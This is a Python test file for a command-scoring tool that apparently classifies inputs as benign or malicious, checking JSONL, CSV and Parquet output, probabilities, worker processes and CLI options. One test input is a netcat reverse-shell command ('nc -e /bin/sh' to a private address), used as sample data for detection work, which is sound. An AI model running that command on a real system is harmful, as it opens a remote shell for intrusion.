"""Batch scoring: output formats (JSONL/CSV/Parquet), class probabilities, several processes, the CLI."""

from __future__ import annotations

import io
import json

import pyarrow.parquet as pq
import pytest
from typer.testing import CliRunner

from distilsec.cli.app import app
from distilsec.errors import DistilsecError
from distilsec.serving.scoring import ScoringModel, score_stream
from tests.conftest import make_texts

MIXED = (
    b'{"text": "ls", "id": "a"}\n{broken\n\n[1, 2]\n{"other": 1}\n'
    b'{"url": "http://x.example/a.exe", "id": 5}\n{"text": "nul \\u0000 and \\ud800"}\n'
)


def _jsonl(bundle, path, **kw):
    out = io.StringIO()
    stats = score_stream(ScoringModel(bundle), str(path), out, **kw)
    return stats, [json.loads(line) for line in out.getvalue().splitlines()]


def test_proba_rows_and_alignment(exported, tmp_path):
    src = tmp_path / "in.jsonl"
    src.write_bytes(MIXED)
    stats, rows = _jsonl(exported["char_cnn"], src, proba=True)
    assert [r["row"] for r in rows] == list(range(6))
    scored = [r for r in rows if r["score"] is not None]
    assert len(scored) == stats.n_scored == 3 and stats.n_errors == 3
    for r in scored:
        assert set(r["proba"]) == {"benign", "malicious"}
        assert abs(r["proba"]["malicious"] - r["score"]) < 1e-6
    assert rows[4]["id"] == 5 and rows[0]["id"] == "a"


def test_parquet_and_csv_carry_the_same_rows(exported, tmp_path):
    src = tmp_path / "in.jsonl"
    src.write_bytes(MIXED)
    _, rows = _jsonl(exported["hashed_linear"], src, proba=True)
    with open(tmp_path / "o.parquet", "wb") as f:
        score_stream(ScoringModel(exported["hashed_linear"]), str(src), f, output_format="parquet", proba=True)
    table = pq.read_table(tmp_path / "o.parquet").to_pylist()
    assert [t["score"] for t in table] == [r["score"] for r in rows]
    assert [t["error"] for t in table] == [r.get("error") for r in rows]
    assert [t["p_malicious"] for t in table] == [r.get("proba", {}).get("malicious") for r in rows]
    assert table[4]["id"] == "5"
    out = io.StringIO()
    score_stream(ScoringModel(exported["hashed_linear"]), str(src), out, output_format="csv", proba=True)
    lines = out.getvalue().splitlines()
    assert lines[0] == "row,id,score,label,error,p_benign,p_malicious" and len(lines) == 7


def test_parquet_of_an_empty_input_is_a_valid_empty_table(exported, tmp_path):
    (tmp_path / "empty.txt").write_bytes(b"")
    with open(tmp_path / "o.parquet", "wb") as f:
        stats = score_stream(
            ScoringModel(exported["char_cnn"]), str(tmp_path / "empty.txt"), f, output_format="parquet"
        )
    assert stats.n_rows == 0 and pq.read_table(tmp_path / "o.parquet").num_rows == 0


def test_unknown_output_format(exported, tmp_path):
    (tmp_path / "a.txt").write_text("ls\n")
    with pytest.raises(DistilsecError, match="output format"):
        score_stream(ScoringModel(exported["char_cnn"]), str(tmp_path / "a.txt"), io.StringIO(), output_format="xml")


def test_worker_processes_give_the_same_output(exported, tmp_path):
    texts = make_texts(700, seed=4)[0]
    src = tmp_path / "in.txt"
    src.write_text("\n".join(texts) + "\n")
    model = ScoringModel(exported["char_cnn"])
    one, two = io.StringIO(), io.StringIO()
    s1 = score_stream(model, str(src), one, batch_size=64)
    s2 = score_stream(model, str(src), two, batch_size=64, workers=2)
    assert one.getvalue() == two.getvalue() and s1 == s2 and s1.n_scored == 700


def test_cli_score_parquet_runtime_and_bad_options(exported, tmp_path):
    src = tmp_path / "in.txt"
    src.write_text("ls -la\nnc -e /bin/sh 10.0.0.2 9001\n")
    runner = CliRunner()
    out = tmp_path / "o.parquet"
    res = runner.invoke(
        app, ["score", str(src), "-m", str(exported["char_cnn"]), "-f", "parquet", "-o", str(out), "--runtime", "torch"]
    )
    assert res.exit_code == 0, res.output
    assert pq.read_table(out).num_rows == 2
    res = runner.invoke(app, ["score", str(src), "-m", str(exported["char_cnn"]), "--runtime", "tf"])
    assert res.exit_code == 2 and "--runtime" in res.output
    res = runner.invoke(app, ["score", str(src), "-m", str(exported["char_cnn"]), "--engine", "spark"])
    assert res.exit_code == 2 and "--engine" in res.output
    res = runner.invoke(app, ["score", str(src), "-m", str(exported["char_cnn"]), "-f", "xml"])
    assert res.exit_code == 2 and "--format" in res.output
